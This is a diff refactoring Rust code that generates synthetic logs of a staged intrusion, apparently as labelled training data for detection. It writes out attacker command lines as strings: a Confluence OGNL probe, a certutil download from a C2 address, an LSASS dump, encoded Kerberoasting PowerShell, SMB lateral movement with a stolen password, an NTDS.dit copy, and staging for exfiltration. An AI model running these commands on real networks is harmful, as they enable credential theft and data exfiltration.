@@ -10,7 +10,7 @@ use crate::rng::Rng;
 use crate::time::{DAY, HOUR, MIN, SEC, iis_time, syslog_time};
 use crate::truth::Detector::{self, Correlation, Ioc, Sigma};
 use crate::win::{Proc, Win};
-use crate::world::{ADMIN_WS, DC, DOMAIN, FS, NETBIOS, SERVICE_ACCOUNTS, WEB, World};
+use crate::world::{ADMIN_WS, DC, DOMAIN, FS, Host, NETBIOS, SERVICE_ACCOUNTS, WEB, World};
 use crate::zeek::{CONN, DNS, HTTP, conn_line, dns_line, http_line};
 
 /// A storyline step (static form of [`crate::truth::Step`]).
@@ -188,7 +188,9 @@ pub fn iis_line(
 }
 
 /// Generate the attack starting on day `attack_day` of the evidence window
-/// (which begins at `start`, UTC) and lasting until `end`.
+/// (which begins at `start`, UTC) and lasting until `end`. Each phase draws
+/// from `rng` in turn, in the order below: the demo is byte-for-byte
+/// reproducible from its seed, so the order is part of the output.
 pub fn generate(
     out: &mut Out,
     rng: &mut Rng,
@@ -199,11 +201,23 @@ pub fn generate(
 ) {
     let a = start + attack_day * DAY;
     let web = &world.hosts[WEB];
-    let fs = &world.hosts[FS];
-    let dc = &world.hosts[DC];
-    let stolen = world.stolen_admin();
-    let stolen_sid = World::sid_of(&stolen);
+    recon(out, rng, web, a);
+    let mut w = Win { out, rng };
+    let java = exploit(&mut w, web, a);
+    let shell = WebShell::open(&mut w, web);
+    discovery(&mut w, &shell, a);
+    establish(&mut w, world, &shell, &java, a);
+    let fs_implant = lateral_movement(&mut w, world, &shell, a);
+    ssh_brute_force(&mut w, world, a);
+    if let Some(imp) = fs_implant {
+        exfiltration(&mut w, world, imp, a);
+    }
+    beacons(&mut w, world, a, end);
+    let _ = ADMIN_WS;
+}
 
+/// Nuclei-style scan of the public web server.
+fn recon(out: &mut Out, rng: &mut Rng, web: &Host, a: i64) {
     // --- recon: nuclei-style scan (02:05 NZST) ---
     let mut t = a + 14 * HOUR + 5 * MIN;
     let nuclei_ua = "Nuclei+-+Open-source+project+(github.com/projectdiscovery/nuclei)";
@@ -267,9 +281,12 @@ pub fn generate(
             );
         }
     }
+}
 
+/// CVE-2021-26084 OGNL injection into Confluence; returns Confluence's
+/// java.exe, the parent of the exploit's commands.
+fn exploit(w: &mut Win, web: &Host, a: i64) -> Proc {
     // --- exploit: CVE-2021-26084 OGNL injection ---
-    let mut w = Win { out, rng };
     let java = Proc::existing(
         w.rng,
         web,
@@ -284,7 +301,7 @@ pub fn generate(
         )
     };
     let stem = "/wiki/pages/createpage-entervariables.action";
-    t = a + 14 * HOUR + 41 * MIN;
+    let mut t = a + 14 * HOUR + 41 * MIN;
     let probe = "SpaceKey=x&queryString=aaa%5Cu0027%2B%23%7B%5Cu0022%5Cu0022%5B%5Cu0022class%5Cu0022%5D%7D%2B%5Cu0027";
     w.out.iis(
         &web.name,
@@ -357,24 +374,55 @@ pub fn generate(
             );
         }
     }
+    java
+}
 
-    // --- web shell use ---
-    let w3wp = Proc::existing(
-        w.rng,
-        web,
-        W3WP,
-        "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"PCOPublic\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm5c3c1e24-1b39-4a8a-9b3c-2d3b1f0f6c1a -h \"C:\\inetpub\\temp\\apppools\\PCOPublic\\PCOPublic.config\" -w \"\" -m 0",
-        SYSTEM,
-    );
-    // One web-shell command: the POST, w3wp -> cmd (Chopper's wrapper), and the tool.
-    struct Ws<'a> {
-        tool: Option<(&'a str, String)>,
-        inner: String,
-        step: &'static str,
-        techniques: &'static [&'static str],
-        tool_detector: Detector,
+/// One web-shell command: the POST, w3wp -> cmd (Chopper's wrapper), and the tool.
+struct Ws<'a> {
+    tool: Option<(&'a str, String)>,
+    inner: String,
+    step: &'static str,
+    techniques: &'static [&'static str],
+    tool_detector: Detector,
+}
+
+fn ws(
+    tool: Option<(&'static str, &str)>,
+    inner: &str,
+    step: &'static str,
+    techniques: &'static [&'static str],
+    d: Detector,
+) -> Ws<'static> {
+    Ws {
+        tool: tool.map(|(i, c)| (i, c.to_string())),
+        inner: inner.to_string(),
+        step,
+        techniques,
+        tool_detector: d,
     }
-    let chopper = |w: &mut Win, t: i64, src: &str, c: &Ws| -> Option<Proc> {
+}
+
+/// The China Chopper web shell on the public web server, run by IIS's w3wp.
+struct WebShell<'h> {
+    web: &'h Host,
+    w3wp: Proc,
+}
+
+impl<'h> WebShell<'h> {
+    fn open(w: &mut Win, web: &'h Host) -> Self {
+        let w3wp = Proc::existing(
+            w.rng,
+            web,
+            W3WP,
+            "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"PCOPublic\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm5c3c1e24-1b39-4a8a-9b3c-2d3b1f0f6c1a -h \"C:\\inetpub\\temp\\apppools\\PCOPublic\\PCOPublic.config\" -w \"\" -m 0",
+            SYSTEM,
+        );
+        WebShell { web, w3wp }
+    }
+
+    /// Run one command through the shell; the tool's process, if any.
+    fn command(&self, w: &mut Win, t: i64, src: &str, c: &Ws) -> Option<Proc> {
+        let (web, w3wp) = (self.web, &self.w3wp);
         w.out.iis(
             &web.name,
             t,
@@ -399,7 +447,7 @@ pub fn generate(
         let sh = w.spawn(
             web,
             t + 150_000,
-            &w3wp,
+            w3wp,
             CMD,
             &cmdline,
             SYSTEM,
@@ -416,18 +464,12 @@ pub fn generate(
                 l(c.step, c.techniques, c.tool_detector),
             )
         })
-    };
-    let ws = |tool: Option<(&'static str, &str)>,
-              inner: &str,
-              step: &'static str,
-              techniques: &'static [&'static str],
-              d: Detector| Ws {
-        tool: tool.map(|(i, c)| (i, c.to_string())),
-        inner: inner.to_string(),
-        step,
-        techniques,
-        tool_detector: d,
-    };
+    }
+}
+
+/// Discovery commands through the web shell.
+fn discovery(w: &mut Win, shell: &WebShell, a: i64) {
+    let web = shell.web;
     let sys32 = |n: &str| format!("C:\\Windows\\System32\\{n}");
     let (whoami, ipconfig, net, nltest, netstat, systeminfo, tasklist) = (
         sys32("whoami.exe"),
@@ -521,10 +563,10 @@ pub fn generate(
             Correlation,
         ),
     ];
-    t = a + 15 * HOUR + 2 * MIN;
+    let mut t = a + 15 * HOUR + 2 * MIN;
     for c in &discovery {
         t += 30 * SEC + w.rng.below(150) as i64 * SEC;
-        if let Some(p) = chopper(&mut w, t, ACCESS_IPS[0], c)
+        if let Some(p) = shell.command(w, t, ACCESS_IPS[0], c)
             && p.image.ends_with("net.exe")
         {
             let sub = p.cmd.trim_start_matches("net ");
@@ -539,23 +581,36 @@ pub fn generate(
             );
         }
     }
+}
 
+/// Day +1: tool transfer, implant, credentials, Kerberoasting, firewall,
+/// persistence.
+fn establish(w: &mut Win, world: &World, shell: &WebShell, java: &Proc, a: i64) {
+    let t = implant(w, shell, java, a);
+    credentials_and_persistence(w, world, shell, java, t);
+}
+
+/// Day +1, first: tool transfer and the implant's start; returns the time
+/// the attacker moves on.
+fn implant(w: &mut Win, shell: &WebShell, java: &Proc, a: i64) -> i64 {
+    let web = shell.web;
     // --- day +1: tool transfer, implant, creds, kerberoast, firewall, persistence ---
-    t = a + DAY + 13 * HOUR + 10 * MIN;
+    let mut t = a + DAY + 13 * HOUR + 10 * MIN;
     let dl = format!("certutil -urlcache -split -f http://{C2_IP}:8080/update.bin {IMPLANT}");
-    let cu = chopper(
-        &mut w,
-        t,
-        ACCESS_IPS[1],
-        &ws(
-            Some(("C:\\Windows\\System32\\certutil.exe", &dl)),
-            &dl,
-            "tool_transfer",
-            &["T1105"],
-            Sigma,
-        ),
-    )
-    .unwrap_or_else(|| java.clone());
+    let cu = shell
+        .command(
+            w,
+            t,
+            ACCESS_IPS[1],
+            &ws(
+                Some(("C:\\Windows\\System32\\certutil.exe", &dl)),
+                &dl,
+                "tool_transfer",
+                &["T1105"],
+                Sigma,
+            ),
+        )
+        .unwrap_or_else(|| java.clone());
     w.net(
         web,
         t + 900_000,
@@ -605,19 +660,20 @@ pub fn generate(
     );
     t += 3 * MIN;
     let start_implant = format!("start /b {IMPLANT}");
-    let implant = chopper(
-        &mut w,
-        t,
-        ACCESS_IPS[1],
-        &ws(
-            Some((IMPLANT, IMPLANT)),
-            &start_implant,
-            "tool_transfer",
-            &["T1105"],
-            Sigma,
-        ),
-    )
-    .unwrap_or_else(|| java.clone());
+    let implant = shell
+        .command(
+            w,
+            t,
+            ACCESS_IPS[1],
+            &ws(
+                Some((IMPLANT, IMPLANT)),
+                &start_implant,
+                "tool_transfer",
+                &["T1105"],
+                Sigma,
+            ),
+        )
+        .unwrap_or_else(|| java.clone());
     w.dns(
         web,
         t + SEC,
@@ -643,7 +699,20 @@ pub fn generate(
         C2_IP,
         l("tool_transfer", &["T1071.001"], Ioc),
     );
+    t
+}
 
+/// Day +1, then: LSASS dump, Kerberoasting, the firewall opening for the
+/// implant's listener, and persistence.
+fn credentials_and_persistence(
+    w: &mut Win,
+    world: &World,
+    shell: &WebShell,
+    java: &Proc,
+    mut t: i64,
+) {
+    let web = shell.web;
+    let dc = &world.hosts[DC];
     t += 12 * MIN;
     let lsass = Proc::existing(
         w.rng,
@@ -656,12 +725,15 @@ pub fn generate(
         pid: web.lsass_pid,
         ..lsass
     };
-    chopper(
-        &mut w,
+    shell.command(
+        w,
         t,
         ACCESS_IPS[1],
         &ws(
-            Some((tasklist, "tasklist /fi \"imagename eq lsass.exe\"")),
+            Some((
+                "C:\\Windows\\System32\\tasklist.exe",
+                "tasklist /fi \"imagename eq lsass.exe\"",
+            )),
             "tasklist /fi \"imagename eq lsass.exe\"",
             "credential_dumping",
             &["T1057"],
@@ -673,19 +745,20 @@ pub fn generate(
         "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\dbg.dmp full",
         web.lsass_pid
     );
-    let rd = chopper(
-        &mut w,
-        t,
-        ACCESS_IPS[1],
-        &ws(
-            Some(("C:\\Windows\\System32\\rundll32.exe", &md)),
-            &md,
-            "credential_dumping",
-            &["T1003.001"],
-            Sigma,
-        ),
-    )
-    .unwrap_or_else(|| java.clone());
+    let rd = shell
+        .command(
+            w,
+            t,
+            ACCESS_IPS[1],
+            &ws(
+                Some(("C:\\Windows\\System32\\rundll32.exe", &md)),
+                &md,
+                "credential_dumping",
+                &["T1003.001"],
+                Sigma,
+            ),
+        )
+        .unwrap_or_else(|| java.clone());
     w.access(web, t + 400_000, &rd, &lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+3d8d8|C:\\Windows\\System32\\comsvcs.dll+3b9b6|C:\\Windows\\system32\\rundll32.exe+3bd4|UNKNOWN(00007FFB2C1A1B32)", l("credential_dumping", &["T1003.001"], Sigma));
     w.file(
         web,
@@ -700,8 +773,8 @@ pub fn generate(
     let script = "Add-Type -AssemblyName System.IdentityModel; $s=([adsisearcher]'(&(objectCategory=user)(servicePrincipalName=*))').FindAll(); foreach($u in $s){ $spn=$u.Properties.serviceprincipalname[0]; $tk=New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn; $b=$tk.GetRequest(); [IO.File]::AppendAllText('C:\\Windows\\Temp\\k.txt', $spn+':'+[Convert]::ToBase64String($b)+\"`n\") }";
     let enc = utf16_b64(script);
     let ps_cmd = format!("powershell.exe -nop -w hidden -enc {enc}");
-    chopper(
-        &mut w,
+    shell.command(
+        w,
         t,
         ACCESS_IPS[1],
         &ws(
@@ -742,8 +815,8 @@ pub fn generate(
     // Firewall opening for the implant's listener.
     t += 11 * MIN;
     let fw = "netsh advfirewall firewall add rule name=\"Windows Device Sync\" dir=in action=allow protocol=TCP localport=9998,9999";
-    chopper(
-        &mut w,
+    shell.command(
+        w,
         t,
         ACCESS_IPS[1],
         &ws(
@@ -770,8 +843,8 @@ pub fn generate(
     let st = format!(
         "schtasks /create /tn \"\\Microsoft\\Windows\\DeviceSync\\SyncHost\" /tr {IMPLANT} /sc onstart /ru SYSTEM /f"
     );
-    chopper(
-        &mut w,
+    shell.command(
+        w,
         t,
         ACCESS_IPS[1],
         &ws(
@@ -792,213 +865,255 @@ pub fn generate(
         "S-1-5-18",
         l("persistence", &["T1053.005"], Sigma),
     );
+}
 
-    // --- day +3: lateral movement over SMB with the stolen admin ---
+/// Day +3: lateral movement over SMB with the stolen admin, to the file
+/// server and then the domain controller; returns the implant started on
+/// the file server.
+fn lateral_movement(w: &mut Win, world: &World, shell: &WebShell, a: i64) -> Option<Proc> {
+    let (fs, dc) = (&world.hosts[FS], &world.hosts[DC]);
     let mut fs_implant = None;
     for (k, target) in [(FS, fs), (DC, dc)] {
-        t = a + 3 * DAY + 13 * HOUR + if k == DC { 40 * MIN } else { 0 };
-        let nu = format!(
-            "net use \\\\{}\\ADMIN$ /user:{NETBIOS}\\{stolen} Winter2021!",
+        if let Some(p) = move_to(w, world, shell, a, k, target) {
+            fs_implant = Some(p);
+        }
+    }
+    fs_implant
+}
+
+/// Lateral movement to one host (index `k` of `World::hosts`): logon with
+/// the stolen admin, a service that starts the implant; returns the
+/// implant's process on the file server.
+fn move_to(
+    w: &mut Win,
+    world: &World,
+    shell: &WebShell,
+    a: i64,
+    k: usize,
+    target: &Host,
+) -> Option<Proc> {
+    let web = shell.web;
+    let stolen = world.stolen_admin();
+    let stolen_sid = World::sid_of(&stolen);
+    let mut t = a + 3 * DAY + 13 * HOUR + if k == DC { 40 * MIN } else { 0 };
+    let nu = format!(
+        "net use \\\\{}\\ADMIN$ /user:{NETBIOS}\\{stolen} Winter2021!",
+        target.name
+    );
+    shell.command(
+        w,
+        t,
+        ACCESS_IPS[1],
+        &ws(
+            Some(("C:\\Windows\\System32\\net.exe", &nu)),
+            &nu,
+            "lateral_smb",
+            &["T1021.002", "T1078.002"],
+            Sigma,
+        ),
+    );
+    let lid = w.logon(
+        target,
+        t + 500_000,
+        &stolen,
+        &stolen_sid,
+        3,
+        &web.ip,
+        &web.name,
+        true,
+        l("lateral_smb", &["T1021.002", "T1078.002"], Correlation),
+    );
+    w.special(
+        target,
+        t + 510_000,
+        &stolen,
+        &stolen_sid,
+        &lid,
+        l("lateral_smb", &["T1078.002"], Correlation),
+    );
+    w.share(
+        target,
+        t + 600_000,
+        5140,
+        &stolen,
+        &stolen_sid,
+        &web.ip,
+        "ADMIN$",
+        "C:\\Windows",
+        "",
+        l("lateral_smb", &["T1021.002"], Sigma),
+    );
+    let svc = if k == FS {
+        "DeviceSyncSvc"
+    } else {
+        "WinSyncSvc"
+    };
+    let bin = if k == FS {
+        format!("cmd.exe /c {IMPLANT_REMOTE}")
+    } else {
+        "cmd.exe /c ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\ProgramData\\ifm\" q q"
+            .to_string()
+    };
+    if k == FS {
+        t += MIN;
+        let cp = format!(
+            "copy {IMPLANT} \\\\{}\\ADMIN$\\Temp\\dsync.exe",
             target.name
         );
-        chopper(
-            &mut w,
+        shell.command(
+            w,
             t,
             ACCESS_IPS[1],
-            &ws(
-                Some((net, &nu)),
-                &nu,
-                "lateral_smb",
-                &["T1021.002", "T1078.002"],
-                Sigma,
-            ),
-        );
-        let lid = w.logon(
-            target,
-            t + 500_000,
-            &stolen,
-            &stolen_sid,
-            3,
-            &web.ip,
-            &web.name,
-            true,
-            l("lateral_smb", &["T1021.002", "T1078.002"], Correlation),
-        );
-        w.special(
-            target,
-            t + 510_000,
-            &stolen,
-            &stolen_sid,
-            &lid,
-            l("lateral_smb", &["T1078.002"], Correlation),
+            &ws(None, &cp, "lateral_smb", &["T1570"], Sigma),
         );
         w.share(
             target,
-            t + 600_000,
-            5140,
+            t + 400_000,
+            5145,
             &stolen,
             &stolen_sid,
             &web.ip,
             "ADMIN$",
             "C:\\Windows",
-            "",
-            l("lateral_smb", &["T1021.002"], Sigma),
+            "Temp\\dsync.exe",
+            l("lateral_smb", &["T1570"], Sigma),
         );
-        let svc = if k == FS {
-            "DeviceSyncSvc"
-        } else {
-            "WinSyncSvc"
+        let system = Proc {
+            pid: 4,
+            image: "System".into(),
+            ..Proc::existing(w.rng, target, "System", "", SYSTEM)
         };
-        let bin = if k == FS {
-            format!("cmd.exe /c {IMPLANT_REMOTE}")
-        } else {
-            "cmd.exe /c ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\ProgramData\\ifm\" q q"
-                .to_string()
-        };
-        if k == FS {
-            t += MIN;
-            let cp = format!(
-                "copy {IMPLANT} \\\\{}\\ADMIN$\\Temp\\dsync.exe",
-                target.name
-            );
-            chopper(
-                &mut w,
-                t,
-                ACCESS_IPS[1],
-                &ws(None, &cp, "lateral_smb", &["T1570"], Sigma),
-            );
-            w.share(
-                target,
-                t + 400_000,
-                5145,
-                &stolen,
-                &stolen_sid,
-                &web.ip,
-                "ADMIN$",
-                "C:\\Windows",
-                "Temp\\dsync.exe",
-                l("lateral_smb", &["T1570"], Sigma),
-            );
-            let system = Proc {
-                pid: 4,
-                image: "System".into(),
-                ..Proc::existing(w.rng, target, "System", "", SYSTEM)
-            };
-            w.file(
-                target,
-                t + 500_000,
-                &system,
-                IMPLANT_REMOTE,
-                l("lateral_smb", &["T1570"], Sigma),
-            );
-        }
-        t += MIN;
-        let sc = format!(
-            "sc \\\\{} create {svc} binPath= \"{bin}\" start= demand",
-            target.name
-        );
-        chopper(
-            &mut w,
-            t,
-            ACCESS_IPS[1],
-            &ws(
-                Some(("C:\\Windows\\System32\\sc.exe", &sc)),
-                &sc,
-                "lateral_smb",
-                &["T1569.002"],
-                Sigma,
-            ),
-        );
-        w.service(
+        w.file(
             target,
-            t + 400_000,
-            svc,
-            &bin,
-            "LocalSystem",
-            &stolen,
-            l("lateral_smb", &["T1569.002"], Sigma),
+            t + 500_000,
+            &system,
+            IMPLANT_REMOTE,
+            l("lateral_smb", &["T1570"], Sigma),
         );
-        t += 30 * SEC;
-        let scs = format!("sc \\\\{} start {svc}", target.name);
-        chopper(
-            &mut w,
-            t,
-            ACCESS_IPS[1],
-            &ws(
-                Some(("C:\\Windows\\System32\\sc.exe", &scs)),
-                &scs,
-                "lateral_smb",
-                &["T1569.002"],
-                Sigma,
-            ),
-        );
-        let services = Proc::existing(
-            w.rng,
-            target,
-            "C:\\Windows\\System32\\services.exe",
-            "C:\\Windows\\system32\\services.exe",
-            SYSTEM,
-        );
-        let sh = w.spawn(
-            target,
-            t + 400_000,
-            &services,
-            CMD,
-            &bin,
-            SYSTEM,
-            l("lateral_smb", &["T1569.002"], Sigma),
-        );
-        w.service_state(target, t + 450_000, svc, "running");
-        if k == FS {
-            let p = w.spawn(
-                target,
-                t + 500_000,
-                &sh,
-                IMPLANT_REMOTE,
-                IMPLANT_REMOTE,
-                SYSTEM,
-                l("lateral_smb", &["T1569.002"], Sigma),
-            );
-            w.net(
-                target,
-                t + 2 * SEC,
-                &p,
-                C2_IP,
-                443,
-                C2_DOMAIN,
-                l("exfiltration", &["T1071.001"], Sigma),
-            );
-            fs_implant = Some(p);
-        } else {
-            let nt = w.spawn(
-                target,
-                t + 500_000,
-                &sh,
-                "C:\\Windows\\System32\\ntdsutil.exe",
-                "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\ProgramData\\ifm\" q q",
-                SYSTEM,
-                l("credential_ntds", &["T1003.003"], Sigma),
-            );
-            w.file(
-                target,
-                t + 20 * SEC,
-                &nt,
-                "C:\\ProgramData\\ifm\\Active Directory\\ntds.dit",
-                l("credential_ntds", &["T1003.003"], Sigma),
-            );
-            w.file(
-                target,
-                t + 22 * SEC,
-                &nt,
-                "C:\\ProgramData\\ifm\\registry\\SYSTEM",
-                l("credential_ntds", &["T1003.003"], Correlation),
-            );
-        }
     }
+    t += MIN;
+    let sc = format!(
+        "sc \\\\{} create {svc} binPath= \"{bin}\" start= demand",
+        target.name
+    );
+    shell.command(
+        w,
+        t,
+        ACCESS_IPS[1],
+        &ws(
+            Some(("C:\\Windows\\System32\\sc.exe", &sc)),
+            &sc,
+            "lateral_smb",
+            &["T1569.002"],
+            Sigma,
+        ),
+    );
+    w.service(
+        target,
+        t + 400_000,
+        svc,
+        &bin,
+        "LocalSystem",
+        &stolen,
+        l("lateral_smb", &["T1569.002"], Sigma),
+    );
+    t += 30 * SEC;
+    let scs = format!("sc \\\\{} start {svc}", target.name);
+    shell.command(
+        w,
+        t,
+        ACCESS_IPS[1],
+        &ws(
+            Some(("C:\\Windows\\System32\\sc.exe", &scs)),
+            &scs,
+            "lateral_smb",
+            &["T1569.002"],
+            Sigma,
+        ),
+    );
+    let services = Proc::existing(
+        w.rng,
+        target,
+        "C:\\Windows\\System32\\services.exe",
+        "C:\\Windows\\system32\\services.exe",
+        SYSTEM,
+    );
+    let sh = w.spawn(
+        target,
+        t + 400_000,
+        &services,
+        CMD,
+        &bin,
+        SYSTEM,
+        l("lateral_smb", &["T1569.002"], Sigma),
+    );
+    w.service_state(target, t + 450_000, svc, "running");
+    service_payload(w, target, t, &sh, k == FS)
+}
 
+/// What the service started: the implant on the file server (returned),
+/// an NTDS.dit copy with ntdsutil on the domain controller.
+fn service_payload(
+    w: &mut Win,
+    target: &Host,
+    t: i64,
+    sh: &Proc,
+    file_server: bool,
+) -> Option<Proc> {
+    if file_server {
+        let p = w.spawn(
+            target,
+            t + 500_000,
+            sh,
+            IMPLANT_REMOTE,
+            IMPLANT_REMOTE,
+            SYSTEM,
+            l("lateral_smb", &["T1569.002"], Sigma),
+        );
+        w.net(
+            target,
+            t + 2 * SEC,
+            &p,
+            C2_IP,
+            443,
+            C2_DOMAIN,
+            l("exfiltration", &["T1071.001"], Sigma),
+        );
+        Some(p)
+    } else {
+        let nt = w.spawn(
+            target,
+            t + 500_000,
+            sh,
+            "C:\\Windows\\System32\\ntdsutil.exe",
+            "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\ProgramData\\ifm\" q q",
+            SYSTEM,
+            l("credential_ntds", &["T1003.003"], Sigma),
+        );
+        w.file(
+            target,
+            t + 20 * SEC,
+            &nt,
+            "C:\\ProgramData\\ifm\\Active Directory\\ntds.dit",
+            l("credential_ntds", &["T1003.003"], Sigma),
+        );
+        w.file(
+            target,
+            t + 22 * SEC,
+            &nt,
+            "C:\\ProgramData\\ifm\\registry\\SYSTEM",
+            l("credential_ntds", &["T1003.003"], Correlation),
+        );
+        None
+    }
+}
+
+/// Day +4: SSH brute force from the web server to the Linux box.
+fn ssh_brute_force(w: &mut Win, world: &World, a: i64) {
+    let web = &world.hosts[WEB];
     // --- day +4: SSH brute force from the web server to the Linux box ---
     let (lnx, lnx_ip) = (&world.linux.0, &world.linux.1);
-    t = a + 4 * DAY + 12 * HOUR + 3 * MIN;
+    let mut t = a + 4 * DAY + 12 * HOUR + 3 * MIN;
     let mut pid = 20_000 + w.rng.below(5000) as u32;
     let guesses = [
         "root",
@@ -1083,79 +1198,84 @@ pub fn generate(
     t += 95 * SEC;
     w.out.text(&auth_file(lnx), t, format!("{} {lnx} sudo: svc_deploy : TTY=pts/0 ; PWD=/home/svc_deploy ; USER=root ; COMMAND=/bin/bash", syslog_time(t)), l("lateral_ssh", &["T1548.003"], Sigma));
     w.out.text(&auth_file(lnx), t + 5000, format!("{} {lnx} sudo: pam_unix(sudo:session): session opened for user root by svc_deploy(uid=1003)", syslog_time(t + 5000)), l("lateral_ssh", &["T1548.003"], Correlation));
+}
 
-    // --- day +6: staging and exfiltration from the file server ---
-    if let Some(imp) = fs_implant {
-        t = a + 6 * DAY + 14 * HOUR;
-        let rar = "C:\\Windows\\Temp\\rar.exe";
-        w.file(fs, t, &imp, rar, l("staging", &["T1105"], Correlation));
-        t += 2 * MIN;
-        let folders = [
-            "Legislation\\Drafts",
-            "Legislation\\Cabinet Papers",
-            "Executive\\Briefings",
-        ];
-        for (i, f) in folders.iter().enumerate() {
-            t += 3 * MIN + w.rng.below(120) as i64 * SEC;
-            let args = format!(
-                "{rar} a -r -m5 -hpQw3rty!2021 -v200m C:\\Windows\\Temp\\s\\d{i}.rar \"D:\\Shares\\{f}\\*.docx\" \"D:\\Shares\\{f}\\*.pdf\""
-            );
-            let sh = w.spawn(
-                fs,
-                t,
-                &imp,
-                CMD,
-                &format!("cmd.exe /c {args}"),
-                SYSTEM,
-                l("staging", &["T1059.003"], Correlation),
-            );
-            let r = w.spawn(
-                fs,
-                t + 200_000,
-                &sh,
-                rar,
-                &args,
-                SYSTEM,
-                l("staging", &["T1560.001"], Sigma),
-            );
-            w.file(
-                fs,
-                t + 40 * SEC,
-                &r,
-                &format!("C:\\Windows\\Temp\\s\\d{i}.rar"),
-                l("staging", &["T1074.001"], Correlation),
-            );
-        }
-        t += 20 * MIN;
-        for i in 0..3 {
-            t += 4 * MIN + w.rng.below(200) as i64 * SEC;
-            w.net(
-                fs,
-                t,
-                &imp,
-                C2_IP,
-                443,
-                C2_DOMAIN,
-                l("exfiltration", &["T1041"], Sigma),
-            );
-            let bytes = 150_000_000 + w.rng.below(60_000_000);
-            let rb = 90_000 + w.rng.below(40_000);
-            zeek_conn(
-                w.out,
-                w.rng,
-                t,
-                &fs.ip,
-                C2_IP,
-                443,
-                "ssl",
-                bytes,
-                rb,
-                l("exfiltration", &["T1041"], Ioc),
-            );
-            let _ = i;
-        }
+/// Day +6: staging and exfiltration from the file server, by its implant.
+fn exfiltration(w: &mut Win, world: &World, imp: Proc, a: i64) {
+    let fs = &world.hosts[FS];
+    let mut t = a + 6 * DAY + 14 * HOUR;
+    let rar = "C:\\Windows\\Temp\\rar.exe";
+    w.file(fs, t, &imp, rar, l("staging", &["T1105"], Correlation));
+    t += 2 * MIN;
+    let folders = [
+        "Legislation\\Drafts",
+        "Legislation\\Cabinet Papers",
+        "Executive\\Briefings",
+    ];
+    for (i, f) in folders.iter().enumerate() {
+        t += 3 * MIN + w.rng.below(120) as i64 * SEC;
+        let args = format!(
+            "{rar} a -r -m5 -hpQw3rty!2021 -v200m C:\\Windows\\Temp\\s\\d{i}.rar \"D:\\Shares\\{f}\\*.docx\" \"D:\\Shares\\{f}\\*.pdf\""
+        );
+        let sh = w.spawn(
+            fs,
+            t,
+            &imp,
+            CMD,
+            &format!("cmd.exe /c {args}"),
+            SYSTEM,
+            l("staging", &["T1059.003"], Correlation),
+        );
+        let r = w.spawn(
+            fs,
+            t + 200_000,
+            &sh,
+            rar,
+            &args,
+            SYSTEM,
+            l("staging", &["T1560.001"], Sigma),
+        );
+        w.file(
+            fs,
+            t + 40 * SEC,
+            &r,
+            &format!("C:\\Windows\\Temp\\s\\d{i}.rar"),
+            l("staging", &["T1074.001"], Correlation),
+        );
     }
+    t += 20 * MIN;
+    for i in 0..3 {
+        t += 4 * MIN + w.rng.below(200) as i64 * SEC;
+        w.net(
+            fs,
+            t,
+            &imp,
+            C2_IP,
+            443,
+            C2_DOMAIN,
+            l("exfiltration", &["T1041"], Sigma),
+        );
+        let bytes = 150_000_000 + w.rng.below(60_000_000);
+        let rb = 90_000 + w.rng.below(40_000);
+        zeek_conn(
+            w.out,
+            w.rng,
+            t,
+            &fs.ip,
+            C2_IP,
+            443,
+            "ssl",
+            bytes,
+            rb,
+            l("exfiltration", &["T1041"], Ioc),
+        );
+        let _ = i;
+    }
+}
 
+/// C2 beacons from both implants for the rest of the window.
+fn beacons(w: &mut Win, world: &World, a: i64, end: i64) {
+    let (web, fs) = (&world.hosts[WEB], &world.hosts[FS]);
     // --- C2 beacons from both implants for the rest of the window ---
     let mut bt = a + DAY + 13 * HOUR + 15 * MIN;
     while bt < end {
